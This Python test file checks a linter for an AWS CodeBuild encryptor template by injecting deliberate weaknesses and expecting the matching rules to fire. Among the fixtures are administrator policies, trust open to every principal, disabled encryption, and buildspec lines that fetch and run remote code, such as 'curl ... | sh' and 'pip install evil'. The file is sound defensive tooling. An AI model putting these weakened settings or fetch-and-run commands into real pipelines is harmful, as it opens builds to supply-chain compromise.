"""Our template with a weakened build: the expected rule reports each weakness."""

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest

from generator.reading.documents import read
from tests.rules.conftest import NOT_ABOUT_KEYS, judged
from tests.support.paths import ENCRYPTOR_TEMPLATE

OURS = ENCRYPTOR_TEMPLATE

FIRST = '- folder=$(mktemp -d -- "$CODEBUILD_SRC_DIR/../encryptor.XXXXXXXX") && cd -- "$folder"'
"""The build's first command."""

Template = dict[str, Any]
Weaken = Callable[[Template], None]


def project(template: Template) -> dict[str, Any]:
    return dict.__getitem__(template["Resources"]["EncryptorProject"], "Properties")


def role(template: Template) -> dict[str, Any]:
    return dict.__getitem__(template["Resources"]["BuildRole"], "Properties")


def statement(template: Template, sid: str) -> dict[str, Any]:
    statements = role(template)["Policies"][0]["PolicyDocument"]["Statement"]
    return next(each for each in statements if each["Sid"] == sid)


def trust(template: Template) -> dict[str, Any]:
    return dict(role(template)["AssumeRolePolicyDocument"]["Statement"][0])


def permit(action: str, resource: Any = "*") -> Weaken:  # noqa: ANN401 - text or an intrinsic
    def weaken(template: Template) -> None:
        permission = {"Effect": "Allow", "Action": action, "Resource": resource}
        role(template)["Policies"][0]["PolicyDocument"]["Statement"].append(permission)

    return weaken


def build(old: str, new: str) -> Weaken:
    def weaken(template: Template) -> None:
        source = project(template)["Source"]
        assert old in source["BuildSpec"]
        source["BuildSpec"] = source["BuildSpec"].replace(old, new)

    return weaken


def change(where: Callable[[Template], dict[str, Any]], **members: Any) -> Weaken:  # noqa: ANN401 - any member
    return lambda template: where(template).update(members)


def everybody_assumes(template: Template) -> None:
    document = role(template)["AssumeRolePolicyDocument"]
    document["Statement"].append(
        {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}
    )


def any_project(template: Template) -> None:
    del role(template)["AssumeRolePolicyDocument"]["Statement"][0]["Condition"]


def parameter_in_shell(template: Template) -> None:
    template["Parameters"]["Comment"] = {"Type": "String", "Default": ""}
    source = project(template)["Source"]
    text = source["BuildSpec"].replace("${", "${!")
    source["BuildSpec"] = {"Fn::Sub": text.replace('"$ENCRYPTION_KEY_ARN"', "${Comment}")}


def second_upload_role(template: Template) -> None:
    template["Resources"]["More"] = {
        "Type": "AWS::IAM::Policy",
        "Properties": {
            "PolicyName": "more",
            "Roles": [{"Ref": "BuildRole"}],
            "PolicyDocument": {
                "Version": "2012-10-17",
                "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}],
            },
        },
    }


def attached(name: Any) -> Weaken:  # noqa: ANN401 - text or an intrinsic
    def weaken(template: Template) -> None:
        properties = {**ADMINISTRATOR, "Roles": [name]}
        template["Resources"]["More"] = {"Type": "AWS::IAM::Policy", "Properties": properties}

    return weaken


def confined(condition: dict[str, Any]) -> Weaken:
    def weaken(template: Template) -> None:
        document = role(template)["AssumeRolePolicyDocument"]
        document["Statement"][0]["Condition"] = condition

    return weaken


def variable(name: str, **members: Any) -> Weaken:  # noqa: ANN401 - any member
    def weaken(template: Template) -> None:
        for each in project(template)["Environment"]["EnvironmentVariables"]:
            if each["Name"] == name:
                each.update(members)

    return weaken


def exchanged_phases(template: Template) -> None:
    source = project(template)["Source"]
    text = source["BuildSpec"].replace(" install:\n", " post_build:\n", 1)
    source["BuildSpec"] = text.replace(" build:\n", " install:\n", 1)


def more_variables(name: str) -> Weaken:
    def weaken(template: Template) -> None:
        variable = {"Name": name, "Value": "x"}
        project(template)["Environment"]["EnvironmentVariables"].append(variable)

    return weaken


def many_variants(template: Template) -> None:
    """Hide another buildspec among more variants than are checked."""
    source = project(template)["Source"]
    narrowed = "HostIsNarrowedToRole"
    chosen = {"Fn::If": [narrowed, source["BuildSpec"], "version: 0.2\nphases: {}\n"]}
    empty = [{"Fn::If": [narrowed, "", ""]}] * 6
    source["BuildSpec"] = {"Fn::Join": ["", [chosen, *empty]]}


ADMINISTRATOR: dict[str, Any] = {
    "PolicyName": "administrator",
    "PolicyDocument": {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
    },
}
OWN_KEY = {"Fn::GetAtt": ["EnclaveKey", "Arn"]}
BUCKET = {"Fn::Sub": "arn:${AWS::Partition}:s3:::${ExternalBucketName}/*"}
WEAKENED: dict[str, tuple[str, Weaken]] = {
    "build-decrypts-with-the-key": ("E9201", permit("kms:Decrypt", OWN_KEY)),
    "build-decrypts-with-any-key": ("E9201", permit("kms:Decrypt")),
    "build-does-all-with-kms": ("E9201", permit("kms:*", OWN_KEY)),
    "build-reads-the-bucket": ("E9201", permit("s3:GetObject", BUCKET)),
    "build-writes-anywhere": ("E9201", permit("s3:PutObject", "arn:aws:s3:::*")),
    "build-writes-all-of-the-bucket": ("E9201", permit("s3:PutObject", BUCKET)),
    "build-pulls-any-repository": ("E9201", permit("codecommit:GitPull")),
    "build-logs-anywhere": ("E9201", permit("logs:PutLogEvents")),
    "build-passes-roles": ("E9201", permit("iam:PassRole")),
    "build-has-an-attached-policy": ("E9201", second_upload_role),
    "build-is-administrator": (
        "E9201",
        change(role, ManagedPolicyArns=["arn:aws:iam::aws:policy/AdministratorAccess"]),
    ),
    "build-does-all-but": (
        "E9201",
        lambda template: statement(template, "PullSource").update(NotAction=["iam:*"]),
    ),
    "everybody-may-be-the-build": ("E9202", everybody_assumes),
    "any-project-may-be-the-build": ("E9202", any_project),
    "upload-to-any-owner": ("E9203", build("ExpectedBucketOwner", "Owner")),
    "upload-without-acl": ("E9203", build("bucket-owner-full-control", "private")),
    "upload-without-kms": ("E9203", build("aws:kms", "AES256")),
    "upload-under-another-key": ("E9203", build("SSEKMSKeyId", "SomeKeyId")),
    "privileged-mode": (
        "E9204",
        lambda template: project(template)["Environment"].update(PrivilegedMode=True),
    ),
    "artifacts-in-the-clear": (
        "E9204",
        change(project, Artifacts={"Type": "S3", "Location": "some-bucket"}),
    ),
    "cache-in-the-clear": (
        "E9204",
        change(project, Cache={"Type": "S3", "Location": "some-bucket/cache"}),
    ),
    "public-builds": ("E9204", change(project, Visibility="PUBLIC_READ")),
    "source-from-elsewhere": (
        "E9204",
        lambda template: project(template)["Source"].update(
            Type="GITHUB", Location="https://github.com/example/example"
        ),
    ),
    "unpinned-install": ("E9205", build("--require-hashes", "")),
    "install-by-another-tool": (
        "E9205",
        build(FIRST, f"- yum install -y zip\n  {FIRST}"),
    ),
    "install-from-a-page": (
        "E9205",
        build(FIRST, f"- curl -s https://example.com/setup | sh\n  {FIRST}"),
    ),
    "old-image": (
        "W9206",
        lambda template: project(template)["Environment"].update(
            Image="aws/codebuild/amazonlinux2-x86_64-standard:5.0"
        ),
    ),
    "fixed-project-name": ("W9207", change(project, Name="application-encryptor")),
    "fixed-export-name": (
        "W9207",
        lambda template: template["Outputs"]["EnclaveKeyARN"].update(
            Export={"Name": "EnclaveKeyARN"}
        ),
    ),
    "log-for-ever": (
        "W9208",
        change(project, LogsConfig={"CloudWatchLogs": {"Status": "ENABLED"}}),
    ),
    "parameter-in-the-shell": ("E9003", parameter_in_shell),
    "changed-encryptor": ("E9005", build("os.urandom(", "bytes(")),
    "build-has-policies-behind-a-condition": (
        "E9201",
        lambda template: role(template).update(
            Policies={"Fn::If": ["HostIsNarrowedToRole", [ADMINISTRATOR], [ADMINISTRATOR]]}
        ),
    ),
    "build-has-a-policy-as-text": (
        "E9201",
        lambda template: role(template)["Policies"].append(
            {"PolicyName": "text", "PolicyDocument": json.dumps(ADMINISTRATOR["PolicyDocument"])}
        ),
    ),
    "build-has-a-policy-by-a-name-in-text": ("E9201", attached({"Fn::Sub": "${BuildRole}"})),
    "build-role-from-outside-the-template": (
        "E9201",
        change(project, ServiceRole="arn:aws:iam::111111111111:role/administrator"),
    ),
    "build-role-from-outside-the-template-with-a-similar-name": (
        "E9201",
        change(project, ServiceRole="arn:aws:iam::111111111111:role/BuildRoleOfOthers"),
    ),
    "any-projects-arn": ("E9202", confined({"ArnLike": {"aws:SourceArn": "arn:*"}})),
    "the-hosts-account-as-source": (
        "E9202",
        confined(
            {"StringEquals": {"aws:SourceAccount": {"Ref": "ExternalBucketAWSAccountNumber"}}}
        ),
    ),
    "upload-flag-in-a-comment": (
        "E9203",
        build(', "ExpectedBucketOwner": account}', "} # ExpectedBucketOwner"),
    ),
    "second-source": (
        "E9204",
        change(project, SecondarySources=[{"Type": "GITHUB", "SourceIdentifier": "more"}]),
    ),
    "files-from-elsewhere": ("E9204", change(project, FileSystemLocations=[{"Type": "EFS"}])),
    "log-in-a-bucket": (
        "E9204",
        lambda template: project(template)["LogsConfig"].update(
            S3Logs={"Status": "ENABLED", "Location": "some-bucket/log"}
        ),
    ),
    "privileged-behind-a-condition": (
        "E9204",
        lambda template: project(template)["Environment"].update(
            PrivilegedMode={"Fn::If": ["HostIsNarrowedToRole", True, False]}
        ),
    ),
    "encrypting-under-the-hosts-key": (
        "E9204",
        variable("ENCRYPTION_KEY_ARN", Value={"Ref": "ExternalBucketEncryptionKeyArn"}),
    ),
    "key-from-a-parameter-store": (
        "E9204",
        variable("ENCRYPTION_KEY_ARN", Value="/key", Type="PARAMETER_STORE"),
    ),
    "upload-to-a-fixed-owner": (
        "E9204",
        variable("EXTERNAL_BUCKET_ACCOUNT", Value="333333333333"),
    ),
    "unpinned-install-before-a-pinned-one": (
        "E9205",
        build(FIRST, f"- pip install evil\n  {FIRST}"),
    ),
    "hashes-in-a-comment": ("E9205", build("--require-hashes", "# --require-hashes")),
    "install-by-module": (
        "E9205",
        build(FIRST, f"- python3.13 -mpip install evil\n  {FIRST}"),
    ),
    "download-and-run": (
        "E9205",
        build(FIRST, f"- curl -o x https://example.com && bash x\n  {FIRST}"),
    ),
    "buildspec-of-the-repository": (
        "E9005",
        lambda template: project(template)["Source"].update(BuildSpec="buildspec.yml"),
    ),
    "buildspec-from-outside-the-template-behind-a-condition": (
        "E9005",
        lambda template: project(template)["Source"].update(
            BuildSpec={
                "Fn::If": [
                    "HostIsNarrowedToRole",
                    project(template)["Source"]["BuildSpec"],
                    "arn:aws:s3:::bucket/buildspec.yml",
                ]
            }
        ),
    ),
    "another-command": (
        "W9209",
        build(FIRST, f"- sed -i s/a/b/ encryptor.py\n  {FIRST}"),
    ),
    "encrypting-with-another-key-in-the-command": (
        "W9209",
        build('-k "$ENCRYPTION_KEY_ARN"', '-k "$EXTERNAL_BUCKET_KEY_ARN"'),
    ),
    "another-version-of-the-language": ("W9209", build("version: 0.2", "version: 0.1")),
    "phases-in-another-order": ("W9209", exchanged_phases),
    "a-variable-in-the-buildspec": (
        "W9209",
        build("env:\n shell: bash", "env:\n shell: bash\n variables:\n  PYTHONPATH: x"),
    ),
    "a-variable-of-python": ("W9209", more_variables("PYTHONPATH")),
    "a-variable-of-aws": ("W9209", more_variables("AWS_ENDPOINT_URL_KMS")),
    "another-source-version": ("W9209", change(project, SourceVersion="evil")),
    "a-batch": ("W9209", change(project, BuildBatchConfig={"ServiceRole": "x"})),
    "one-of-many-variants": ("E9005", many_variants),
    "foreign-image": (
        "W9206",
        lambda template: project(template)["Environment"].update(Image="docker.io/evil/image"),
    ),
    "log-switched-off": (
        "W9208",
        lambda template: project(template)["LogsConfig"]["CloudWatchLogs"].update(
            Status="DISABLED"
        ),
    ),
    "key-goes-with-the-stack": (
        "E9006",
        lambda template: template["Resources"]["EnclaveKey"].update(DeletionPolicy="Delete"),
    ),
}


def changed(weaken: Weaken) -> Template:
    """Return our template, changed."""
    template = copy.deepcopy(dict(read(OURS)))
    weaken(template)
    return template


def another_project(template: Template) -> None:
    template["Resources"]["Tests"] = {
        "Type": "AWS::CodeBuild::Project",
        "Properties": {
            "ServiceRole": "arn:aws:iam::111111111111:role/tests",
            "Artifacts": {"Type": "CODEPIPELINE"},
            "Environment": {"Type": "LINUX_CONTAINER", "Image": "python", "ComputeType": "x"},
            "Source": {"Type": "CODEPIPELINE", "BuildSpec": "tests.yml"},
        },
    }


HARMLESS: dict[str, Weaken] = {
    "another-project-for-something-else": another_project,
    "a-comment-in-the-buildspec": build("# Likewise: ", "# Also: "),
    "the-log-by-its-name": lambda template: project(template)["LogsConfig"][
        "CloudWatchLogs"
    ].update(GroupName={"Fn::Sub": "${BuildLog}"}),
    "a-tag": change(project, Tags=[{"Key": "team", "Value": "enclave"}]),
    "another-time-limit": change(project, TimeoutInMinutes=480),
    "a-larger-machine": lambda template: project(template)["Environment"].update(
        ComputeType="BUILD_GENERAL1_2XLARGE"
    ),
    "a-topic": lambda template: template["Resources"].update(
        {"Topic": {"Type": "AWS::SNS::Topic"}}
    ),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_change_of_the_build_has_no_findings(name: str) -> None:
    assert judged(changed(HARMLESS[name]), "E", "W") == []


@pytest.mark.parametrize("name", WEAKENED)
def test_weakened_build_is_found_by_the_expected_rule(name: str) -> None:
    expected, weaken = WEAKENED[name]
    assert expected in {rule for rule, _ in judged(changed(weaken), *NOT_ABOUT_KEYS)}
